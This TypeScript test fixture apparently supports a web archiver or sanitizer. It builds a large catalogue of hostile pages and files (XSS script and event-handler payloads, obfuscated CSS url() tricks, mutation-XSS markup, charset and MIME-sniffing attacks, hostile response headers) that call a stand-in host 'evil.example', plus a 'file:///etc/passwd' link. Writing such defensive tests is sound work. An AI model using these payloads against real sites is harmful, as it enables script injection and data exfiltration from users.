/** Host that no page of the archive may ever look up, connect to or ask. */
export const EVIL = 'evil.example';

export const OUT = `http://${EVIL}`;
/** What runs when it can: it leaves a trace in the window, in the title and on the wire. */
export const RUN = `globalThis.ran=1;document.title='ran';fetch('${OUT}/ran');new Image().src='${OUT}/img';alert(1)`;
export const ATTRIBUTE = RUN.replaceAll("'", '&#39;');
export const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${ATTRIBUTE}"><script>${RUN}</script><image xlink:href="${OUT}/i.png" href="${OUT}/i.png"/><use href="${OUT}/u.svg#a"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${OUT}/f"/><img xmlns="http://www.w3.org/1999/xhtml" src="${OUT}/fo.png" onerror="${ATTRIBUTE}"/></foreignObject><a xlink:href="javascript:globalThis.ran=1"><text y="9">x</text></a><animate attributeName="href" values="javascript:globalThis.ran=1"/><set attributeName="onmouseover" to="globalThis.ran=1"/><feImage href="${OUT}/fe"/><style>@import "${OUT}/svg.css"; svg{background:url(${OUT}/bg)}</style></svg>`;
const PDF = `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${OUT}/pdf"\\))>>/AA<</WC<</S/URI/URI(${OUT}/aa)>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;

/** Text in an encoding of two bytes a character, with its mark. */
export function utf16(text: string, little: boolean): Uint8Array {
  const bytes = [...`\ufeff${text}`].flatMap((character) => {
    const code = character.charCodeAt(0);
    return little ? [code & 255, code >> 8] : [code >> 8, code & 255];
  });
  return Uint8Array.from(bytes);
}

export const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** A page or file made to harm whoever opens it. */
export interface Hostile {
  readonly name: string;
  /** `text/html; charset=utf-8` unless given. */
  readonly type?: string;
  readonly body: string | Uint8Array;
  /** Header fields of the answer that it came with. */
  readonly fields?: readonly (readonly [name: string, value: string])[];
}

export const page = (name: string, html: string): Hostile => ({
  name,
  body: `<!doctype html><html><head><title>正文</title></head><body><p>正文 before</p>${html}<p>after 正文</p></body></html>`,
});

/** Each tries to run, load, ask or lead away; a page of it holds the word 正文. */
export const HOSTILE: readonly Hostile[] = [
  page(
    'scripts',
    `<script>${RUN}</script><script src="${OUT}/x.js"></script><script type=module>import '${OUT}/m.js'</script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${OUT}/sr"]}]}</script><script type=importmap>{"imports":{"a":"${OUT}/a"}}</script>`,
  ),
  page(
    'event handlers',
    `<img src=x onerror="${ATTRIBUTE}"><body onload="${ATTRIBUTE}"><details open ontoggle="${ATTRIBUTE}"><p onanimationstart="${ATTRIBUTE}" style="animation:x 1s"><style>@keyframes x{}</style><input autofocus onfocus="${ATTRIBUTE}"><marquee onstart="${ATTRIBUTE}">x</marquee><div onbeforematch="${ATTRIBUTE}" hidden=until-found>x</div><p oncontentvisibilityautostatechange="${ATTRIBUTE}" style="content-visibility:auto">x`,
  ),
  page('svg', SVG),
  page(
    'styles that load',
    `<link rel=stylesheet href="${OUT}/l.css"><style>@import "${OUT}/1.css";@import url(${OUT}/2.css) layer(x) supports(display:block);@import/**/"${OUT}/3.css";p{background:url("${OUT}/4")}p{background-image:image-set("${OUT}/5" 1x,url(${OUT}/6) 2x)}p{background:-webkit-image-set(url(${OUT}/7) 1x)}p{background:cross-fade(url(${OUT}/8),red)}li{list-style:url(${OUT}/9)}p{cursor:url(${OUT}/10),auto}p::after{content:url(${OUT}/11)}p{border-image:url(${OUT}/12)}p{mask:url(${OUT}/13#m);filter:url(${OUT}/14#f);clip-path:url(${OUT}/15#c);shape-outside:url(${OUT}/16)}@font-face{font-family:e;src:url(${OUT}/17)}*{font-family:e}@namespace x url(${OUT}/18);@property --p{syntax:"<url>";inherits:true;initial-value:url(${OUT}/19)}:root{--u:url(${OUT}/20)}p{background:var(--u)}@counter-style c{system:cyclic;symbols:url(${OUT}/21)}</style><p style="background:url(${OUT}/22)" background="${OUT}/23">x</p><table background="${OUT}/24"><tr><td background="${OUT}/25">x</table>`,
  ),
  page(
    'styles in disguise',
    `<style>p{background:\\75\\72\\6c(${OUT}/1)}p{background:\\000075\\00072 \\06c(${OUT}/2)}p{background:u\\\nrl(${OUT}/3)}@\\69mport "${OUT}/4";@im\\70 ort url(${OUT}/5);p{background:URL(\n"${OUT}/6"\n)}p{background:url(/**/${OUT}/7)}p{background:ur/**/l(${OUT}/8)}p{background:\\55 RL(${OUT}/9)}p{background:ｕｒｌ(${OUT}/10)}p{background:u\u200brl(${OUT}/11)}p{background:url\\28 ${OUT}/12\\29}p{content:"</sty\\6ce>";background:url(${OUT}/13)}p{background:"}}}";}p{background:url(${OUT}/14)}p{background:src("${OUT}/15")}</style><p style="background:&#117;rl(${OUT}/16)">x</p><p style="background&colon;url(${OUT}/17)">x</p><p style='background:url("${OUT}/18&quot;)'>x</p>`,
  ),
  page(
    'a style that ends early',
    `<style>p{}</style ><img src=x onerror="${ATTRIBUTE}"><style>a{content:"</style\n><script>${RUN}</script>"}</style>`,
  ),
  page(
    'a form',
    `<form action="${OUT}/form" id=f><input name=q value=1><button formaction="javascript:globalThis.ran=1">x</button></form><button form=f formaction="${OUT}/b">y</button><isindex action="${OUT}/i">`,
  ),
  page(
    'frames and plug-ins',
    `<iframe src="${OUT}/f"></iframe><iframe srcdoc="<script>parent.ran=1;${ATTRIBUTE}</script><img src='${OUT}/sd'>"></iframe><iframe src="javascript:parent.ran=1"></iframe><frameset><frame src="${OUT}/fr"></frameset><object data="${OUT}/o" type=text/html><param name=movie value="${OUT}/p"></object><embed src="${OUT}/e"><applet code="${OUT}/a"></applet><fencedframe src="${OUT}/ff"></fencedframe><portal src="${OUT}/po"></portal>`,
  ),
  page(
    'a refresh',
    `<meta http-equiv=refresh content="0;url=${OUT}/r"><META HTTP-EQUIV=' Refresh ' CONTENT='0; URL="${OUT}/r2"'><meta http-equiv=set-cookie content="x=1"><meta http-equiv=content-security-policy content="report-uri ${OUT}/csp">`,
  ),
  page(
    'addresses that run',
    [
      'javascript:globalThis.ran=1',
      'JaVaScRiPt&colon;globalThis.ran=1',
      'java\tscript:globalThis.ran=1',
      'java&#10;script:globalThis.ran=1',
      '&#1;javascript:globalThis.ran=1',
      'javascript&#x3a;globalThis.ran=1',
      '\u00a0javascript:globalThis.ran=1',
      'vbscript:x',
      `data:text/html,<script>${ATTRIBUTE}</script>`,
      `data:text/html;base64,${base64(`<script>${RUN}</script>`)}`,
      'blob:null/x',
      'view-source:javascript:globalThis.ran=1',
      `feed:${OUT}/x`,
      '//evil.example\\@x/',
      'file:///etc/passwd',
      'intent://x#Intent;end',
    ]
      .map((href) => `<a href="${href}">正文</a>`)
      .join(' '),
  ),
  page('a base', `<base href="${OUT}/" target=_top><img src="b.png"><a href="x">x</a><p style="background:url(c.png)">x`),
  page(
    'hints and links',
    [
      'prefetch',
      'preload',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'modulepreload',
      'manifest',
      'icon',
      'apple-touch-icon',
      'stylesheet',
      'import',
      'pingback',
      'next',
      'search',
      'expect',
      'compression-dictionary',
    ]
      .map((rel) => `<link rel="${rel}" href="${OUT}/${rel}" as=image>`)
      .join('') +
      `<meta http-equiv=x-dns-prefetch-control content=on><a href="${OUT}/" ping="${OUT}/ping" attributionsrc="${OUT}/attr">x</a><area href="${OUT}/area" ping="${OUT}/p2">`,
  ),
  page(
    'pictures and sound',
    `<img src="${OUT}/1" srcset="${OUT}/2 1x, ${OUT}/3 2x" lowsrc="${OUT}/4" dynsrc="${OUT}/5" longdesc="${OUT}/6" usemap="#m" attributionsrc="${OUT}/7"><picture><source srcset="${OUT}/8" media=all><img src="data:image/svg+xml,${encodeURIComponent(SVG)}"></picture><video src="${OUT}/9" poster="${OUT}/10" autoplay><track src="${OUT}/11" default></video><audio src="${OUT}/12" autoplay></audio><input type=image src="${OUT}/13"><image src="${OUT}/14"><bgsound src="${OUT}/15"><body background="${OUT}/16"><svg><image href="${OUT}/17"/></svg><img src="data:image/png;base64,${base64(`<svg onload="${RUN}">`)}">`,
  ),
  page(
    'foreign elements that change what follows',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.ran=1&gt;"></mglyph></table></mtext></math><svg><style><img src=x onerror="${ATTRIBUTE}"></style></svg><math><annotation-xml encoding="text/html"><img src=x onerror="${ATTRIBUTE}"></annotation-xml></math><svg></p><style><a id="</style><img src=1 onerror=globalThis.ran=1>"></svg><form><math><mtext></form><form><mglyph><style></math><img src=x onerror=globalThis.ran=1></style></mglyph></form><math href="javascript:globalThis.ran=1">x</math><svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  ),
  page(
    'templates and fallbacks',
    `<template><img src=x onerror="${ATTRIBUTE}"></template><div><template shadowrootmode=open><img src="${OUT}/shadow"><style>@import "${OUT}/s.css"</style><slot></slot></template></div><noscript><img src="${OUT}/ns"><p title="</noscript><img src=x onerror=globalThis.ran=1>"></noscript><noframes><img src="${OUT}/nf"></noframes><noembed></noembed><img src=x onerror="${ATTRIBUTE}"><select><option><script>${RUN}</script></select><dialog open><img src="${OUT}/d"></dialog>`,
  ),
  page('text that never ends', `<p>正文</p><plaintext><script>${RUN}</script><img src=x onerror="${ATTRIBUTE}">`),
  page(
    'text of other kinds',
    `<xmp><script>${RUN}</script></xmp><listing><img src=x onerror="${ATTRIBUTE}"></listing><textarea><p>x</textarea><script>${RUN}</script><title></title><img src=x onerror="${ATTRIBUTE}"></title>`,
  ),
  { name: 'a title with markup', body: `<title></title><script>${RUN}</script><img src=x onerror="${ATTRIBUTE}">正文</title><p>正文` },
  page(
    'comments',
    `<!--><script>${RUN}</script>--><!--[if true]><script>${RUN}</script><![endif]--><!-- --!><img src=x onerror="${ATTRIBUTE}"><!-><img src=x onerror="${ATTRIBUTE}"><?php <img src=x onerror="${ATTRIBUTE}"> ?><!DOCTYPE x [<!ENTITY e SYSTEM "${OUT}/dtd">]>&e;`,
  ),
  page(
    'attributes that break out',
    `<p title="&quot;><script>${RUN}</script>" class='"><img src=x onerror=globalThis.ran=1>' id="x' onmouseover='globalThis.ran=1">x</p><p style="color:red&quot;><script>globalThis.ran=1</script>">y</p><a href="${OUT}/&quot; onclick=globalThis.ran=1 x=&quot;">z</a><p/onclick=globalThis.ran=1//title=x>w</p><p\0onclick=globalThis.ran=1>v`,
  ),
  page(
    'names that shadow',
    `<img name=getElementById id=location><a id=ran name=ran href="${OUT}/c">x</a><p id=passage>x</p><form name=body></form><p id=__proto__>y`,
  ),
  { name: 'utf-7', type: 'text/html; charset=utf-7', body: `<p>正文</p>+ADw-script+AD4-globalThis.ran=1+ADw-/script+AD4-` },
  { name: 'utf-7 by meta', type: 'text/html', body: `<meta charset=utf-7><p>正文</p>+ADw-img src+AD0-x onerror+AD0-globalThis.ran=1+AD4-` },
  { name: 'utf-16', type: 'text/html', body: utf16(`<p>正文</p><script>${RUN}</script><img src=x onerror="${ATTRIBUTE}">`, true) },
  {
    name: 'utf-16 in another order, labelled ascii',
    type: 'text/html; charset=us-ascii',
    body: utf16(`<p>正文</p><img src="${OUT}/u16" onerror="${ATTRIBUTE}">`, false),
  },
  {
    name: 'iso-2022-jp',
    type: 'text/html; charset=iso-2022-jp',
    body: `<p>before</p><a title="\u001b$B"></a>\u001b(B<img alt="\u001b$B"><img src=x onerror="${ATTRIBUTE}"><p title="\u001b(J\\" onclick=globalThis.ran=1 ">x`,
  },
  {
    name: 'a charset of no kind',
    type: 'text/html; charset="><script>globalThis.ran=1</script>',
    body: `<p>正文</p><script>${RUN}</script>`,
  },
  {
    name: 'a document of XHTML',
    type: 'application/xhtml+xml',
    body: `<?xml version="1.0"?><?xml-stylesheet href="${OUT}/x.xsl" type="text/xsl"?><!DOCTYPE html [<!ENTITY x "&#60;script>globalThis.ran=1&#60;/script>">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>正文</p>&x;<script>${RUN.replaceAll('&', '&amp;')}</script><x:script xmlns:x="http://www.w3.org/1999/xhtml">globalThis.ran=1</x:script></body></html>`,
  },
  {
    name: 'XML with a style sheet',
    type: 'text/xml',
    body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${OUT}/x.xsl"?><?xml-stylesheet type="text/css" href="${OUT}/x.css"?><r xmlns:h="http://www.w3.org/1999/xhtml">正文<h:script>globalThis.ran=1</h:script><h:img src="${OUT}/xml"/></r>`,
  },
  {
    name: 'an XSL that transforms itself',
    type: 'application/xml',
    body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><d xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:stylesheet id="s" version="1.0"><xsl:template match="/"><html><body><script>globalThis.ran=1</script><img src="${OUT}/xsl"/></body></html></xsl:template></xsl:stylesheet>正文</d>`,
  },
  {
    name: 'a feed',
    type: 'application/rss+xml',
    body: `<rss><channel><title>正文</title><item><description><![CDATA[<script>${RUN}</script>]]></description></item></channel></rss>`,
  },
  { name: 'a drawing', type: 'image/svg+xml', body: SVG },
  { name: 'a drawing served as a picture', type: 'image/png', body: SVG },
  { name: 'a picture that is a page', type: 'image/gif', body: `GIF89a/*<script>${RUN}</script><img src=x onerror="${ATTRIBUTE}">*/` },
  { name: 'a PDF with a script', type: 'application/pdf', body: PDF },
  { name: 'a PDF served as a page', type: 'text/html', body: `${PDF}<script>${RUN}</script>正文` },
  {
    name: 'a web archive',
    type: 'multipart/related',
    body: `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: ${OUT}/\r\n\r\n<script>${RUN}</script><img src="${OUT}/mhtml">\r\n--x--`,
  },
  { name: 'a message', type: 'message/rfc822', body: `Content-Type: text/html\r\n\r\n<script>${RUN}</script>` },
  { name: 'a script', type: 'text/javascript', body: `${RUN}//正文` },
  { name: 'a style sheet', type: 'text/css', body: `@import "${OUT}/css";/*正文*/` },
  { name: 'JSON that is a page', type: 'application/json', body: `{"正文":"<script>${RUN}</script><img src=${OUT}/json>"}` },
  { name: 'a type of two minds', type: 'text/html, image/svg+xml;x="<script>"', body: `<p>正文</p>${SVG}` },
  {
    name: 'no type at all',
    type: '',
    body: `<html><body><p>正文</p><script>${RUN}</script><img src="${OUT}/sniff" onerror="${ATTRIBUTE}">`,
  },
  { name: 'a type nobody knows', type: 'unknown/unknown', body: `<html><script>${RUN}</script><img src="${OUT}/sniff2">正文` },
  {
    name: 'a list of sources for playing',
    type: 'application/vnd.apple.mpegurl',
    body: `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${OUT}/key"\n${OUT}/hls.ts`,
  },
  {
    ...page('fields that lead away', '<p>正文</p>'),
    fields: [
      ['Refresh', `0; url=${OUT}/refresh`],
      [
        'Link',
        `<${OUT}/link.css>; rel=stylesheet, <${OUT}/pre>; rel=preload; as=image, <${OUT}>; rel=preconnect, <${OUT}>; rel=dns-prefetch`,
      ],
      ['Set-Cookie', 'stolen=1; Path=/'],
      ['Content-Security-Policy', "default-src * 'unsafe-inline'"],
      ['Content-Security-Policy-Report-Only', `default-src 'none'; report-uri ${OUT}/csp`],
      ['Report-To', `{"group":"default","max_age":1,"endpoints":[{"url":"${OUT}/rt"}]}`],
      ['Reporting-Endpoints', `default="${OUT}/re"`],
      ['NEL', '{"report_to":"default","max_age":1,"success_fraction":1}'],
      ['Location', `${OUT}/location`],
      ['Service-Worker-Allowed', '/'],
      ['SourceMap', `${OUT}/map`],
      ['Clear-Site-Data', '"*"'],
      ['Alt-Svc', `h2="${EVIL}:443"`],
      ['Speculation-Rules', `"${OUT}/rules.json"`],
      ['Access-Control-Allow-Origin', '*'],
      ['X-DNS-Prefetch-Control', 'on'],
    ],
  },
];

/** Parts of one page that are hostile themselves; each is named by the page at the address that leads to it. */
export const HOSTILE_PARTS: readonly {
  readonly uri: string;
  readonly kind: 'style' | 'image' | 'font';
  readonly type: string;
  readonly body: string;
}[] = [
  {
    uri: `${OUT}/part.css`,
    kind: 'style',
    type: 'text/css',
    body: `@import "${OUT}/nested.css";p{background:url(${OUT}/part.svg)}p::after{content:"</style><script>globalThis.ran=1</script>"}@font-face{font-family:z;src:url(${OUT}/part.woff)}*{font-family:z}`,
  },
  {
    uri: `${OUT}/nested.css`,
    kind: 'style',
    type: 'text/css',
    body: `</style><script>${RUN}</script><style>@import "${OUT}/deeper.css";p{background:url(${OUT}/nested.png)}`,
  },
  { uri: `${OUT}/part.svg`, kind: 'image', type: 'image/svg+xml', body: SVG },
  { uri: `${OUT}/part.png`, kind: 'image', type: 'image/png', body: SVG },
  { uri: `${OUT}/part.woff`, kind: 'font', type: 'font/woff', body: `wOFF${SVG}` },
];

/** The page that shows the hostile parts. */
export const SHOWS_PARTS: Hostile = page(
  'parts that are hostile',
  `<link rel=stylesheet href="${OUT}/part.css"><img src="${OUT}/part.svg"><img src="${OUT}/part.png"><p style="background:url(${OUT}/part.svg)">正文`,
);
